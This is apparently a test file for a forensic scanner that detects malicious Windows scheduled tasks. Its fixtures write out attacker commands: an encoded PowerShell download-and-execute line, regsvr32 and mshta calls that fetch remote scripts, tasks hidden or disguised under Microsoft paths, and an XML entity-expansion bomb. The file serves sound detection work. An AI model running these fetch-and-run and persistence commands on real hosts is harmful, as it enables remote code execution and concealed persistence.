/** Scheduled tasks of Windows hosts over their three stores: what hides, what differs, what runs; and honest ones. */
import { describe, expect, test } from 'bun:test';
import { jobFile } from '../../src/formats/task/task.fixture.ts';
import { scanSpec, type TaskSpec, usualTasks } from './windows-host.fixture.ts';

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

async function told(
  specs: readonly TaskSpec[],
  files: Readonly<Record<string, Uint8Array>> = {},
): Promise<readonly string[]> {
  const result = await scanSpec({ tasks: [...usualTasks, ...specs], files });
  return result.persistence
    .filter(
      ({ mechanism, judgement }) =>
        mechanism === 'scheduled-task' && (judgement === 'suspicious' || judgement === 'malicious'),
    )
    .map(
      ({ name, judgement, reasons }) =>
        `${judgement} ${name ?? ''}: ${reasons
          .map(({ id }) => id)
          .sort()
          .join(' ')}`,
    )
    .sort();
}

describe('tasks of attackers', () => {
  test.each<[string, TaskSpec, readonly string[]]>([
    [
      'an encoded command every five minutes',
      {
        path: '\\Microsoft\\Windows\\Bluetooths',
        command: 'powershell',
        parameters: `-w hidden -ep bypass -e ${utf16("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')")}`,
      },
      ['malicious \\Microsoft\\Windows\\Bluetooths: encoded-command family-mark fetch-and-run hidden-window'],
    ],
    [
      'one that lost its descriptor',
      { path: '\\WinUpdate', command: 'C:\\ProgramData\\upd\\u.exe', descriptor: false },
      ['malicious \\WinUpdate: hidden-from-listing'],
    ],
    [
      'one of index 0',
      { path: '\\WinUpdate', command: 'C:\\ProgramData\\upd\\u.exe', index: 0 },
      ['malicious \\WinUpdate: hidden-from-listing'],
    ],
    [
      'one of the registry alone',
      { path: '\\Ghost', command: 'C:\\ProgramData\\upd\\u.exe', file: false },
      ['suspicious \\Ghost: registry-only'],
    ],
    [
      'one of which the registry runs something else',
      {
        path: '\\Microsoft\\Windows\\Chkdsk\\Proxy',
        command: '%windir%\\system32\\chkdsk.exe',
        cached: 'C:\\Users\\Public\\p.exe',
      },
      [
        'malicious \\Microsoft\\Windows\\Chkdsk\\Proxy: stores-differ temporary-path',
        'suspicious \\Microsoft\\Windows\\Chkdsk\\Proxy: stores-differ',
      ],
    ],
    [
      'a script by regsvr32',
      { path: '\\Mysa1', command: 'regsvr32.exe', parameters: '/u /s /i:http://192.0.2.9/v.sct scrobj.dll' },
      ['malicious \\Mysa1: family-mark fetch-and-run'],
    ],
  ])('%s', async (_, spec, expected) => {
    expect(await told([spec])).toEqual(expected);
  });

  test('a job of at', async () => {
    const job = jobFile({
      command: 'C:\\Windows\\System32\\mshta.exe',
      parameters: 'http://192.0.2.9/j.hta',
      flags: 0,
      every: 5,
      trigger: 1,
    });
    expect(await told([], { 'Windows/Tasks/At1.job': Uint8Array.from(job) })).toEqual([
      'malicious \\At1.job: fetch-and-run',
    ]);
  });
});

describe('honest tasks', () => {
  test('of Windows, of an updater, of an owner with his own script', async () => {
    expect(await told([])).toEqual([]);
  });

  test('a file that the registry has lost would not run, and says nothing', async () => {
    expect(await told([{ path: '\\Old', command: 'C:\\Users\\Public\\old.exe', registry: false }])).toEqual([
      'suspicious \\Old: temporary-path',
    ]);
    expect(await told([{ path: '\\Old', command: 'C:\\Tools\\old.exe', registry: false }])).toEqual([]);
  });

  test('where a collector took the registry alone, no task is held for hidden', async () => {
    const result = await scanSpec({ tasks: usualTasks.map((task) => ({ ...task, file: false })) });
    expect(result.verdict).toBe('clean');
    expect(result.persistence.filter(({ mechanism }) => mechanism === 'scheduled-task')).toHaveLength(4);
  });

  test('without both stores nothing is clean', async () => {
    const result = await scanSpec({ tasks: [], without: ['SOFTWARE'] });
    expect(result.coverage.find(({ id }) => id === 'windows-tasks')).toMatchObject({
      required: true,
      checked: false,
    });
  });
});

describe('hostile tasks', () => {
  test('files that are no tasks, thousands of entities and no end are told and passed', async () => {
    const entities = `<!DOCTYPE a [${Array.from({ length: 50 }, (_, at) => `<!ENTITY e${at + 1} "&e${at};&e${at};">`).join('')}]><Task>&e50;</Task>`;
    const result = await scanSpec({
      files: {
        'Windows/System32/Tasks/bomb': Buffer.from(entities),
        'Windows/System32/Tasks/open': Buffer.from(`<Task><Actions>${'<Exec>'.repeat(50_000)}`),
        'Windows/System32/Tasks/noise': Uint8Array.from({ length: 5_000 }, (_, at) => at & 255),
        'Windows/Tasks/x.job': Uint8Array.from([1, 2, 3]),
      },
    });
    expect(
      result.persistence.filter(
        ({ mechanism, judgement }) => mechanism === 'scheduled-task' && judgement !== 'benign',
      ),
    ).toEqual([]);
    expect(
      result.sources.some(({ artifact, status }) => artifact === 'windows.tasks' && status === 'error'),
    ).toBe(true);
  });
});
